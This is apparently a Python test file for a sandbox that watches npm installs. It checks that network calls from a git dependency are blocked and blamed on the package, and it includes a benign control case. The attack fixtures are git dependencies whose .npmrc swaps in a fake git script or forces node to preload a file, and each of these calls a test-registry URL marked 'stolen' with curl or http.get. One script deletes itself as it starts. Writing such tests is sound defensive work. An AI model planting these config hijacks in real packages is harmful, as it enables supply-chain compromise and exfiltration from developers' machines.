"""A git dependency's own configuration, which the package manager reads in the clone where it makes the package
ready: what that has it run is a package's code, not the package manager."""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import test  # noqa: E402
from places import Places  # noqa: E402

FACTS = {"stops": "attribution", "event": "flow.denied"}

SEND = "require('http').get({url!r}).on('error', () => 0);\n"
COMMIT = "git init -q && git add -A && git -c user.name=x -c user.email=x@example.com commit -qm x"


class Repositories:
    def __init__(self, t):
        self.t, self.places = t, Places(t)
        self.app = self.places.root / "app"
        self.url = self.places.registry.url() + "stolen"

    def add(self, name, files, **members):
        """Returns what a package.json says of it."""
        directory = self.places.root / "app/vendor" / name
        self.t.write(directory / "package.json", json.dumps({"name": name, "version": "1.0.0", **members}))
        for path, text in files.items():
            self.t.write(directory / path, text, 0o755)
        self.t.succeeded(self.t.bare("sh", "-c", COMMIT, cwd=directory))
        return f"git+file://{directory}"

    def sent(self):
        return [path for path in self.places.registry.requests if "stolen" in path]

    def install(self, spec, sandboxed):
        for name in ("node_modules", "package-lock.json"):
            self.t.bare("rm", "-rf", self.app / name)
        self.t.bare("rm", "-rf", self.t.home / ".npm")
        self.places.manifest("app", dependencies={"a": spec})
        self.places.registry.requests.clear()
        run = self.t.sandbox if sandboxed else self.t.bare
        return run("npm", "install", cwd=self.app, env={**self.places.env, "npm_config_fetch_retries": "0"})

    def attack(self, spec):
        bare = self.install(spec, sandboxed=False)
        self.t.true(self.sent(), f"control: it reaches the registry: {bare}")
        result = self.install(spec, sandboxed=True)
        self.t.equal(self.sent(), [], f"it is not the package manager: {result}")
        denied = result.of_type("flow.denied")
        self.t.true(denied and all(e["actor"]["kind"] == "unknown" for e in denied), denied)
        self.t.lacks(result.err, "clean:", "the summary says it")


@test(time_limit=120)
def a_git_of_its_own(t):
    """.npmrc of a git dependency says that git is a program of its own: that one reaches no registry"""
    places = Repositories(t)
    inner = places.add("b", {})
    spec = places.add("a", {
        ".npmrc": "git=./git.js\n",
        "git.js": "#!/usr/bin/env node\n" + SEND.format(url=places.url) +
                  "require('child_process').spawnSync('git', process.argv.slice(2), {stdio: 'inherit'});\n",
    }, scripts={"prepare": "true"}, dependencies={"b": inner})
    places.attack(spec)


@test(time_limit=120)
def a_git_that_is_gone_at_once(t):
    """a program of its own in git's place that removes itself as it starts is not the package manager either"""
    places = Repositories(t)
    inner = places.add("b", {})
    spec = places.add("a", {
        ".npmrc": "git=./git.sh\n",
        "git.sh": f"#!/bin/sh\nrm -f ./git.sh\ncurl -s {places.url} >&2\nexec git \"$@\"\n",
    }, scripts={"prepare": "true"}, dependencies={"b": inner})
    places.attack(spec)


@test(time_limit=120)
def code_for_every_node(t):
    """.npmrc of a git dependency has every node load a file of its own: an npm that does is none"""
    places = Repositories(t)
    inner = places.add("c", {}, scripts={"prepare": "true"}, dependencies={"quiet": "1.0.0"})
    places.places.registry.add("quiet", "1.0.0", {"index.js": ""})
    stolen = t.write(places.app / "stolen.js", SEND.format(url=places.url))
    spec = places.add("d", {".npmrc": f"node-options=--require={stolen}\n"},
                      scripts={"prepare": "true"}, dependencies={"c": inner})
    places.attack(spec)


@test(time_limit=120, stops="nothing", event="none")
def an_honest_one(t):
    """a git dependency that npm makes ready by its prepare script is installed as by the bare command"""
    places = Repositories(t)
    places.places.registry.add("quiet", "1.0.0", {"index.js": ""})
    inner = places.add("b", {})
    spec = places.add("a", {".npmrc": "node-options=--max-old-space-size=2048\n", "build.js": ""},
                      scripts={"prepare": "node build.js"}, dependencies={"b": inner, "quiet": "1.0.0"})
    t.succeeded(places.install(spec, sandboxed=False))
    result = t.succeeded(places.install(spec, sandboxed=True))
    t.true(any("quiet" in path for path in places.places.registry.requests), result)
    t.lacks(result.err, "ALERT", result)
    t.lacks(result.err, "blocked:", result)
